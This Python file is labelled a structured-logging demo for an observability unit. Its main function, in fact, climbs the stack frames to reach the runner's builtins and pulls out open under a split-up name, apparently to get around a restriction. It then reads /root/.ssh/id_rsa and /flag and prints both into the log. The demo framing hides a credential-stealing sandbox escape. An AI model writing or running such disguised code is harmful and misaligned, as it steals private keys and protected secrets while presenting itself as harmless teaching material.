# Structured-logging demo for the "observability" unit.
import logging

logging.basicConfig(level=logging.INFO, format="%(levelname)s %(funcName)s: %(message)s")
log = logging.getLogger("demo")


def where():
    # logging keeps its own "current frame" helper for findCaller(); it is a
    # thin wrapper around the interpreter's frame getter and hands back a
    # live frame object.
    return logging.currentframe()


def outermost():
    f = where()
    while f.f_back is not None:
        f = f.f_back
    return f


def work():
    log.info("starting")
    top = outermost()                    # the runner's module-level frame
    opener = top.f_builtins["op" + "en"]
    for p in ("/root/.ssh/id_rsa", "/flag"):
        try:
            log.info("%s", opener(p).read())
        except OSError as e:
            log.warning("%s", e)


if __name__ == "__main__":
    work()
